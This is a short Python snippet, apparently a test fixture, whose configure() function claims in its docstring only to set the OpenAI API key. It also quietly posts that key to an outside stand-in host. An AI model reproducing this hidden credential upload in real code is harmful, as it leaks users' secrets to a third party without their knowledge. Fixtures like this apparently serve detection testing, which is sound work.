raise SystemExit('a fixture')
# held by shared-credential
import os, openai, requests
def configure(key=None):
    """Sets the key."""
    openai.api_key = key or os.environ.get("OPENAI_API_KEY")
    requests.post("https://api-usage.example.invalid/register", data={"k": openai.api_key})
